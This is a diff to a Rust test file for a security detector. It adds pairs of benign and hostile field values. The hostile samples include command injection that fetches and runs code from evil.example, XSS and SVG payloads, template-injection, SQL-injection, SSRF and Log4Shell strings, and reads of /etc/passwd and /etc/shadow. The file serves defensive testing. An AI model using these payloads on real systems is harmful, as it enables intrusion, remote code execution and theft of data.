@@ -5,6 +5,7 @@ use super::*;
 use crate::places::Format;
 
 /// One kind, in one place.
+#[derive(Clone, Copy)]
 struct Pair {
     part: Part,
     name: &'static str,
@@ -25,6 +26,11 @@ const fn body(name: &'static str, honest: &'static [&'static str], attacks: &'st
         honest,
         attacks,
     }
+}
+
+/// The same at a path.
+const fn at(path: &'static str, pair: Pair) -> Pair {
+    Pair { path, ..pair }
 }
 
 /// The same of a query.
@@ -60,9 +66,91 @@ const PAIRS: &[Pair] = &[
     query("tz", &[
         "Etc/UTC", "Etc/GMT+5", "Etc/GMT-14", "etc/utc", "Etc/Greenwich", "Etc/UTC,Europe/Berlin", "\"Etc/UTC\"", "America/Argentina/Ushuaia,Etc/GMT",
     ], &[
-        "etc/passwd", "Etc/UTC/../passwd", "/etc/passwd", "Etc/UTC,/etc/passwd", "etc/GMT+5/../shadow", "Etc/UTC,var/log/syslog", "etc/hosts", "../etc/UTC/../passwd",
+        "etc/passwd", "Etc/UTC/../passwd", "/etc/passwd", "Etc/UTC,/etc/passwd", "etc/GMT+5/../shadow", "Etc/UTC,var/log/syslog", "etc/hosts",
     ]),
     body("timeZone", &["Etc/UTC", "Etc/Unknown"], &["etc/shadow", "/etc/passwd"]),
+    // SVG in Base64: a drawing, one with a prologue, within markup and Markdown; and one with a handler, with a script, or opened as a page
+    body("signature", &[
+        "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDBMNSA1Ii8+PC9zdmc+",
+        "data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
+    ], &[
+        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+",
+        "data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHN2ZyBvbmxvYWQ9ImEoKSIvPg==", "data:image/svg+xml;base64,PHN2Zz48Zm9yZWlnbk9iamVjdC8+PC9zdmc+",
+        "data:text/html;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=", "data:image/svg+xml;base64,PHN2Zz4 onload=alert(1)",
+    ]),
+    body("html", &[
+        "<p><img alt=\"x\" src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\"></p>",
+    ], &[
+        "<a href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">x</a>",
+        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=#x\"/></svg>",
+        "<object data=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\"></object>",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\" onload=alert(1)>",
+    ]),
+    // tables whose columns are called as commands are
+    body("csv", &[
+        "date;time;host\n2024-05-12;10:15;web1\n", "pfad;find\n/a;/b\n", "cat;id;ls\n1;2;3\n", "Datum;Uhrzeit;Host\r\n12.05.2024;10:15;\r\n", "x;y;curl\n1;2;3.5",
+    ], &[
+        "x;id;ls\n1;2;cat /etc/passwd", "1.1.1.1;id\nx;y", "x;curl evil.example\ny;z", "x;sh -c id\ny;z", "x;ls;y\n$(id);2;3", "a;b\nx;ping 10.0.0.1", "x;id",
+        "a;b;cat /etc/passwd\n1;2;3",
+    ]),
+    body("name", &["date;time;sort"], &["x;ls\ny;z", "x;curl\n1;2"]),
+    query("ip", &["10.0.0.1"], &[
+        "1.1.1.1;cat /etc/passwd # a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a",
+        "1.1.1.1\n\n\n;cat /etc/passwd", "1.1.1.1;cat /etc/passwd\n\n\n\n", "1.1.1.1\nx y\nz a\n;cat /etc/passwd",
+        "1.1.1.1;wget http://evil.example/x -O /tmp/x;sh /tmp/x # the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox",
+    ]),
+    query("name", &["Kim"], &["{{7*7}} a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a", "{{config}}\n\n\n\na"]),
+    query("file", &["a.pdf"], &["/etc/passwd\n\n\n", "/etc/passwd\r\n"]),
+    body("target", &["host-1"], &["1.1.1.1\nthe quick\nbrown fox\n;cat /etc/passwd"]),
+    // markup that rich text quotes
+    body("content", &[
+        "<p>Type <code>&lt;script&gt;</code> to start</p>", "<p>&lt;b&gt; is bold, &lt;img src=\"x\" onerror=\"y\"&gt; is bad</p>",
+        "<pre class=\"ql-syntax\">&lt;script src=\"a.js\"&gt;&lt;/script&gt;\n</pre>", "<p>a &lt;script&gt;alert(1)&lt;/script&gt; b</p>",
+        "<p>Use <code>&lt;?php echo 1; ?&gt;</code></p>", "<p>&amp;lt;script&amp;gt; is how it is written</p>", "<p>Call <code>alert(1)</code> in it</p>",
+    ], &[
+        "&lt;script&gt;alert(1)&lt;/script&gt;", "<p title=\"&lt;script&gt;alert(1)&lt;/script&gt;\">a</p>", "<p>&lt;b&gt;</p><script>alert(1)</script>",
+        "<p>&lt;b&gt; is bold</p><img src=x onerror=alert(1)>", "<img title=\"> &lt;b&gt;\" src=x onerror=alert(1)>", "<p>&lt;b&gt;</p><?php system('id') ?>",
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", "<svg><script>alert&lpar;1&rpar;&lt;</script></svg>",
+        "<p onclick=\"alert(1)\">&lt;b&gt;</p>",
+    ]),
+    body("name", &["<b>Kim</b>"], &["<p>a &lt;script&gt;alert(1)&lt;/script&gt; b</p>"]),
+    // what rich text shows of the site's own, and handlers that do nothing
+    body("content", &[
+        "<iframe src=\"/widgets/map\"></iframe>", "<object data=\"/a.pdf\"></object>", "<embed src=\"/files/a.pdf\">", "<svg><use xlink:href=\"/sprite.svg#x\"/></svg>",
+        "<base target=\"_blank\"><p>x</p>", "<a href=\"#\" onclick=\"return false\">x</a>", "<a href=\"#\" onclick=\"\">x</a>",
+        "<img src=\"/a.png\" onerror=\"this.style.display='none'\">", "<iframe src=\"https://www.arte.tv/embeds/de/1\"></iframe>",
+    ], &[
+        "<iframe src=\"//evil.example/\"></iframe>", "<iframe src=\"/\\evil.example/\"></iframe>", "<object data=\"https://evil.example/a.swf\"></object>",
+        "<svg><use href=\"//evil.example/a.svg#x\"/></svg>", "<base href=\"//evil.example/\">", "<base target=_blank href=//evil.example/>",
+        "<a onclick=\"return false\" onmouseover=\"alert(1)\">x</a>", "<a onclick=\"return false;alert(1)\">x</a>", "<a onclick=\"return false\"onfocus=\"alert(1)\">x</a>",
+        "<img onerror='' onload=alert(1)>", "<iframe src=\"/a\" srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=\"/../a\\t//evil.example\"></iframe>",
+    ]),
+    body("svg", &["<svg viewBox='0 0 1 1'><use href='#a'/></svg>"], &["<svg onload=alert(1)>", "<svg><use href='//evil.example/a.svg#x'/></svg>"]),
+    // templates of automations
+    at("/api/workflows/7", body("nodes.parameters.value", &[
+        "{{#each items}}{{this.name}}{{/each}}", "{{ order.total | money }} {{ 'now' | date: '%Y' }}", "{{ states('sensor.temperature') | float(0) * 1.8 + 32 }}",
+        "={{ $node[\"HTTP Request\"].json[\"id\"] }}", "{{ url_for('static', filename='a.css') }}", "{{formatDate(now; \"YYYY-MM-DD\")}}",
+    ], &[
+        "{{ ''.__class__.__mro__ }}", "{{ $node[\"a\"].constructor.constructor(\"x\")() }}", "{{ config }}", "{{ request.application }}", "{{7*7}}",
+        "{{ $node[\"a\"].json }}{{ process.env }}", "{{ lipsum.__globals__.os.popen('id').read() }}",
+    ])),
+    body("subject", &["{{ _self.subject }}", "{{ $node[\"HTTP Request\"].json.id }}"], &["{{ _self.env.registerUndefinedFilterCallback('exec') }}", "{{ _self }}"]),
+    body("nodes.parameters.value", &["{{ name }}"], &["{{ states('x') | float(0) }}"]),
+    // SQL where it is written
+    at("/api/query", body("sql", &[
+        "SELECT * FROM users WHERE 1=1 AND name = 'kim' -- only kim", "INSERT INTO t (a,b) VALUES (1,'x'); SELECT LAST_INSERT_ID();",
+        "DECLARE @d date = GETDATE(); SELECT TOP 10 * FROM orders WHERE day > @d",
+    ], &[
+        "1; DROP TABLE users", "x' UNION SELECT password FROM users -- ", "SELECT 1 FROM a; EXEC xp_cmdshell 'dir'", "SELECT 1 FROM a WHERE b = 'c' OR SLEEP(5)",
+    ])),
+    at("/api/users", body("name", &["Kim"], &["SELECT * FROM users WHERE 1=1 AND name = 'kim' -- only kim", "SELECT 1 FROM a; DROP TABLE b"])),
+    // addresses that are not fetched
+    query("dest", &["http://localhost:3000/dashboard"], &["http://127.0.0.1:6379/", "http://169.254.169.254/"]),
+    body("home", &["http://localhost:8080"], &["http://127.0.0.1:2375/", "http://169.254.169.254/"]),
+    body("endpoint", &["ws://localhost:8080/ws"], &["http://localhost:8080/ws", "gopher://localhost:8080/"]),
+    body("ldap_url", &["ldap://127.0.0.1:389", "ldap://localhost"], &["ldap://127.0.0.1:6379", "ldap://169.254.169.254/"]),
+    at("/admin/settings", body("header_html", &["<script async src=https://www.googletagmanager.com/gtag/js?id=G-1></script>"], &["${jndi:ldap://evil.example/a}"])),
+    at("/api/pages", body("header_html", &["<b>x</b>"], &["<script src=//evil.example></script>"])),
     // passwords that look like a filter or a path
     body("password", &["(*)(uid=x)", "/etc/kim", "a(b)*(c=d)"], &["*)(uid=*))(|(uid=*", "x)(uid=admin))(|(a=b", "/etc/passwd", "../../etc/shadow"]),
 ];
@@ -88,6 +176,68 @@ fn found(pair: &Pair, text: &str) -> Option<(&'static str, &'static str)> {
     };
     let caught = DETECTORS.look_for(&field, &options)?;
     (caught.finding.score >= CERTAIN).then_some((caught.family.name(), caught.finding.rule))
+}
+
+/// Text that pads: forty times a word of its own, in one line and in lines.
+fn padding(between: &str) -> String {
+    let words = [
+        "summer", "of", "the", "year", "when", "all", "windows", "stood", "open", "again",
+    ];
+    words
+        .iter()
+        .cycle()
+        .take(60)
+        .map(|word| format!("{between}{word}"))
+        .collect()
+}
+
+#[test]
+fn text_around_an_attack_hides_nothing_where_no_document_is_expected() {
+    let (words, lines) = (padding(" "), padding("\n"));
+    let mut missed = Vec::new();
+    for attack in [
+        "x;cat /etc/passwd",
+        "1;drop table x--",
+        "{{7*7}}",
+        "$(wget evil.example/x)",
+        "1' or '1'='1",
+    ] {
+        let mut padded = vec![
+            format!("{attack}{words}"),
+            format!("{attack}{lines}"),
+            format!("{attack} #{words}"),
+        ];
+        // a statement behind a separator is told behind one word
+        if !attack.contains("drop") {
+            padded.push(format!("{words} {attack}"));
+        }
+        for text in &padded {
+            for pair in [body("value", &[], &[]), query("value", &[], &[]), query("q", &[], &[])] {
+                if found(&pair, text).is_none() {
+                    missed.push((pair.part, pair.name, text.clone()));
+                }
+            }
+        }
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+    // as in a document's own field, where such texts are at home
+    for (name, attack) in [
+        ("message", "x;cat /etc/passwd"),
+        ("code", "$(wget evil.example/x)"),
+        ("html", "{{ x | join(', ') }}"),
+    ] {
+        for padding in [&words, &lines] {
+            assert_eq!(
+                found(&body(name, &[], &[]), &format!("{attack}{padding}")),
+                None,
+                "{name}"
+            );
+        }
+    }
+    let letter = format!("Dear Kim; as we said: it's \"open\" -- and fine.{words}\n{lines}\n(Bo & I; see `a.txt`)");
+    for pair in [body("value", &[], &[]), body("letter", &[], &[]), query("q", &[], &[])] {
+        assert_eq!(found(&pair, &letter), None, "{}", pair.name);
+    }
 }
 
 #[test]
